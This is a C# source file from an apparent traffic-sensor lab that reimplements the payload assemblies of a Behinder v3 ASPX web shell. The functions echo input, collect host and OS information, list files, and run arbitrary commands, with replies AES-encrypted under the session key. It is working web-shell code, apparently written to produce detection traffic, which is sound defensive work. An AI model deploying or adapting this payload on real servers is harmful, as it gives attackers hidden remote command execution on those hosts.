// TrafficSensor lab: the payload assemblies of the lab's Behinder v3 ASPX shell, written for the lab:
// one assembly per function (compiled with -define:ECHO, BASICINFO, FILEOPERATION or CMD), each a
// class U that the shell hands its page through Equals(). The client patches the call's arguments
// into Arguments (same length) before it encrypts the assembly; the answer is
// AES-CBC(iv = key from the session) of {"status":base64,"msg":base64}.
using System;
using System.Text;
using System.Web.UI;

public class U
{
    private static readonly string Patched = "LABARGS:~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~";

    public override bool Equals(object o)
    {
        var page = o as Page;
        if (page == null) return false;
        var args = LabRunner.Arguments(Patched);
        string status = "success", msg;
        try { msg = Call(page, args); }
        catch (Exception e) { status = "fail"; msg = e.Message; }
        var json = "{\"status\":\"" + B64(status) + "\",\"msg\":\"" + B64(msg) + "\"}";
        var k = Encoding.Default.GetBytes(page.Session["k"] + "");
        var plain = Encoding.UTF8.GetBytes(json);
        page.Response.BinaryWrite(new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(k, k).TransformFinalBlock(plain, 0, plain.Length));
        return true;
    }

    public override int GetHashCode() { return 0; }

    private static string B64(string s) { return Convert.ToBase64String(Encoding.UTF8.GetBytes(s)); }

    private static string Arg(System.Collections.Generic.Dictionary<string, string> args, string name)
    {
        string v;
        return args.TryGetValue(name, out v) ? v : "";
    }

    private static string Call(Page page, System.Collections.Generic.Dictionary<string, string> args)
    {
#if ECHO
        return Arg(args, "content");
#elif BASICINFO
        var b = new StringBuilder();
        b.Append("{\"basicInfo\":\"").Append(B64(Environment.OSVersion + " " + Environment.Version + " " + Environment.UserName));
        b.Append("\",\"currentPath\":\"").Append(B64(page.Server.MapPath("."))).Append("\",\"driveList\":\"").Append(B64("/")).Append("\",\"osInfo\":\"").Append(B64(Environment.OSVersion.ToString())).Append("\"}");
        return b.ToString();
#elif FILEOPERATION
        return Arg(args, "mode") == "list" ? LabRunner.Run("ls -la") : "";
#elif CMD
        return LabRunner.Run(Arg(args, "cmd"));
#else
        return "";
#endif
    }
}
